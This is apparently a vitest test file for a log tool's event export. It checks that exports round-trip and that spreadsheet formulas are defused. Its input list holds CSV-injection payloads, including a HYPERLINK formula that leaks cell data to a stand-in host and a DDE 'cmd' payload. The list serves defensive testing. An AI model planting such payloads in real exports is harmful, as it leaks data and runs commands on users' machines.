// Exports: every event of a query, streamed to a file in each format, read back and compared
// with the engine's own answer; spreadsheet formulas defused; an interrupted export leaves nothing.
import { createHash } from 'node:crypto';
import { existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvRows } from '../../../test/support/csv-rows.ts';
import { dataset } from '../../../test/support/paths.ts';
import { tempDir } from '../../../test/support/temp-case.ts';
import type { StoredEvent } from '../../../shared/contract.ts';
import { CaseSession } from '../case-session.ts';

/** Cells a spreadsheet would run as formulas (OWASP CSV injection), and other awkward text. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'comma, "quote", and\nnewline',
];

const temp = tempDir();
let session: CaseSession;
let all: StoredEvent[];

async function engineRows(query = {}): Promise<StoredEvent[]> {
  const handle = await session.read.openResult(query);
  try {
    return await session.read.rows(handle, 0, 5000);
  } finally {
    await session.read.closeResult(handle);
  }
}

beforeAll(async () => {
  const hostile = temp.file('formulas.ndjson');
  writeFileSync(
    hostile,
    FORMULAS.map((user, i) =>
      JSON.stringify({ time: `2024-05-01T10:00:0${i}Z`, user, action: 'login', ip: '10.0.0.1' }),
    ).join('\n'),
  );
  session = await CaseSession.open(temp.file('export.auditscope'));
  await session.import([dataset('okta-system-log'), dataset('linux-auditd', 'go-libaudit'), hostile]);
  all = await engineRows();
});
afterAll(async () => {
  await session.close();
  temp.cleanup();
});

describe('export', () => {
  it('writes CSV that reads back to the same events, formulas defused, with an optional BOM', async () => {
    const file = temp.file('all.csv');
    const progress: number[] = [];
    const off = session.onExportProgress((p) => progress.push(p.written));
    const summary = await session.exportEvents({}, { file, format: 'csv', bom: true });
    off();
    const bytes = readFileSync(file);
    expect(summary).toMatchObject({ file, format: 'csv', events: all.length, bytes: bytes.length });
    expect(summary.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
    expect(progress.at(-1)).toBe(all.length);
    const text = bytes.toString('utf8');
    expect(text.startsWith('\uFEFFid,time,')).toBe(true);
    const rows = csvRows(text.slice(1));
    expect(rows.map((r) => r.id)).toEqual(all.map((e) => e.id));
    for (const [i, row] of rows.entries()) expect(row.action, String(i)).toBe(all[i]?.action);
    const hostileCells = rows
      .filter((r) => r.action === 'login' && r.ip === '10.0.0.1')
      .map((r) => r.actor_name ?? r.actor_id);
    expect(hostileCells.length).toBe(FORMULAS.length);
    for (const cell of hostileCells) {
      // Anything a spreadsheet would evaluate starts with a quote mark instead.
      expect(String(cell)).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
    expect(hostileCells).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(hostileCells).toContain('comma, "quote", and\nnewline');
  });

  it('writes JSON and NDJSON events, and the original records byte for byte', async () => {
    const json = JSON.parse(
      readFileSync(
        (await session.exportEvents({}, { file: temp.file('all.json'), format: 'json' })).file,
        'utf8',
      ),
    ) as StoredEvent[];
    expect(json.map((e) => e.id)).toEqual(all.map((e) => e.id));
    const ndjson = readFileSync(
      (await session.exportEvents({}, { file: temp.file('all.ndjson'), format: 'ndjson' })).file,
      'utf8',
    )
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as StoredEvent);
    expect(ndjson.map((e) => e.raw)).toEqual(all.map((e) => e.raw));
    const raw = readFileSync(
      (await session.exportEvents({}, { file: temp.file('all.raw'), format: 'raw' })).file,
      'utf8',
    );
    const lines = raw.trimEnd().split('\n');
    expect(lines).toHaveLength(all.length);
    for (const [i, event] of all.entries()) {
      if (!event.raw.includes('\n')) expect(lines[i]).toBe(event.raw);
    }
  });

  it('exports exactly a filtered result, in its order', async () => {
    const query = {
      filter: { kind: 'field', field: 'outcome', op: 'eq', value: 'failure' },
      order: 'asc',
    } as const;
    const expected = await engineRows(query);
    expect(expected.length).toBeGreaterThan(0);
    const file = temp.file('failures.ndjson');
    await session.exportEvents(query, { file, format: 'ndjson' });
    const ids = readFileSync(file, 'utf8')
      .trimEnd()
      .split('\n')
      .map((line) => (JSON.parse(line) as StoredEvent).id);
    expect(ids).toEqual(expected.map((e) => e.id));
  });

  it('leaves nothing behind when cancelled or when the folder is gone', async () => {
    const file = temp.file('cancelled.csv');
    const exporting = session.exportEvents({}, { file, format: 'csv', jobId: 'job-1' });
    session.cancelExport('job-1');
    await expect(exporting).rejects.toThrow(/cancelled/);
    expect([existsSync(file), existsSync(`${file}.partial`)]).toEqual([false, false]);
    await expect(
      session.exportEvents({}, { file: temp.file('no/such/folder.csv'), format: 'csv' }),
    ).rejects.toThrow(/ENOENT/);
    // A disk that fills up mid-way (/dev/full answers every write with ENOSPC): an error, no hang.
    const full = temp.file('full.csv');
    symlinkSync('/dev/full', `${full}.partial`);
    await expect(session.exportEvents({}, { file: full, format: 'json' })).rejects.toThrow(/ENOSPC/);
    expect([existsSync(full), existsSync(`${full}.partial`)]).toEqual([false, false]);
  });
});
